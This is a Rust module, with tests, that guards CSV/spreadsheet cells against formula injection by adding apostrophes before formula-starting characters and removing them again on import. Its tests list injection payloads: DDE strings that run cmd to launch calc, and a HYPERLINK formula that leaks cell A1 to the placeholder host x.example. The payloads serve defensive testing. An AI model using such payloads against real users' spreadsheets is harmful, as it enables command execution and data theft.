//! The guard against cells that a spreadsheet would run as formulas, or that an import would take for nothing.
//!
//! An apostrophe goes before what a spreadsheet takes for a formula: `=`, `+`, `-`, `@` and their full-width forms,
//! at the beginning of a text and wherever a spreadsheet with another delimiter would begin a cell or a row within it,
//! which quotation marks do not prevent; a tab, a line feed or a carriage return at the beginning. Spreadsheets take
//! such a cell for text. Numbers are left as they are: `-5` is harmless and stays a number.
//!
//! The same apostrophe goes before a text that stands for nothing, such as `n/a`, and before one with blanks at its
//! ends, which reading would take away. Where a text has such apostrophes of its own, each gets a second one, so that
//! reading takes away exactly what writing has added.

use std::borrow::Cow;

use rust_decimal::Decimal;

use super::nothing::may_be_nothing;

/// What begins a cell or a row in a spreadsheet, whatever its delimiter is.
const SEPARATORS: [char; 6] = [',', ';', '\t', '|', '\n', '\r'];
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The cell of a text.
pub(super) fn guard(text: &str) -> Cow<'_, str> {
    if is_plain(text) || text.parse::<Decimal>().is_ok() {
        return Cow::Borrowed(text);
    }
    let mut guarded = String::with_capacity(text.len() + 1);
    if is_guarded_whole(text) {
        guarded.push('\'');
    }
    for (at, c) in text.char_indices() {
        guarded.push(c);
        let rest = text.get(at + c.len_utf8()..).unwrap_or_default();
        if SEPARATORS.contains(&c) && begins_a_formula(rest) {
            guarded.push('\'');
        }
    }
    Cow::Owned(guarded)
}

/// The text of a cell as it stands in the file.
pub(super) fn unguard(cell: &str) -> Cow<'_, str> {
    let rest = cell.strip_prefix('\'');
    let whole = rest.filter(|rest| is_guarded_whole(rest));
    let text = whole.unwrap_or_else(|| cell.trim());
    if is_plain(text) || !text.contains('\'') {
        return Cow::Borrowed(text);
    }
    let mut plain = String::with_capacity(text.len());
    let mut before = None;
    for (at, c) in text.char_indices() {
        let rest = text.get(at + 1..).unwrap_or_default();
        let is_added = c == '\''
            && before.is_some_and(|before| SEPARATORS.contains(&before))
            && begins_a_formula(rest);
        if !is_added {
            plain.push(c);
        }
        before = Some(c);
    }
    Cow::Owned(plain)
}

/// True for a text that has nothing to guard: most have none of these characters.
fn is_plain(text: &str) -> bool {
    !is_guarded_whole(text)
        && !text.char_indices().any(|(at, c)| {
            SEPARATORS.contains(&c) && begins_a_formula(text.get(at + 1..).unwrap_or_default())
        })
}

/// True for a text that gets an apostrophe at its beginning.
fn is_guarded_whole(text: &str) -> bool {
    let bare = text.trim_start_matches('\'');
    begins_a_formula(text)
        || bare.starts_with(['\t', '\r', '\n'])
        || may_be_nothing(bare.trim())
        || bare.trim().len() != bare.len()
}

/// True for a formula, after any number of apostrophes.
fn begins_a_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_the_guard_adds_reading_takes_away() {
        for text in [
            "=1+1",
            "+cmd",
            "-x",
            "@a",
            "\tx",
            "-5",
            "+4930123",
            "'=1",
            "''-5",
            "'-5",
            "'s",
            "a=b",
            "",
            "'",
            "\n=1",
            "\r\n=1",
            "\n",
            " =1",
            "＝1+1",
            "＋1",
            "－1",
            "＠a",
            "a;=cmd",
            "a;'=cmd",
            "a\t=cmd",
            "a|@x",
            "a\n=1\n- two",
            "a,+1",
            ";=1",
            ";;=1",
            "'a;=1",
            "n/a",
            "'n/a",
            " n/a ",
            "  both  ",
            "end ",
            "' ",
            "-",
            "None",
            "'None'",
            "ü;＝1",
            "a; -1",
        ] {
            assert_eq!(unguard(&guard(text)), text, "{text:?} as {:?}", guard(text));
        }
        assert_eq!(guard("=1+1"), "'=1+1");
        assert_eq!(guard("-5.20"), "-5.20");
        assert_eq!(guard("a;=cmd"), "a;'=cmd");
        assert_eq!(guard("plain; text"), "plain; text");
    }

    /// The beginnings that OWASP lists, and what spreadsheets with another delimiter make of the rest of a cell.
    #[test]
    fn no_cell_begins_a_formula() {
        let payloads = [
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "a;=1",
            "a\n=1",
            "a\r=1",
            "a\t=1",
            "a|=1",
            "a,=1",
            "x\";=1",
            "=HYPERLINK(\"http://x.example?\"&A1)",
            "-2+3+cmd|' /C calc'!D2",
        ];
        for payload in payloads {
            let cell = guard(payload);
            for part in cell.split(SEPARATORS) {
                assert!(!part.starts_with(FORMULA), "{payload:?} as {cell:?}");
            }
            assert!(
                !cell.starts_with(['\t', '\r', '\n']),
                "{payload:?} as {cell:?}"
            );
        }
    }
}
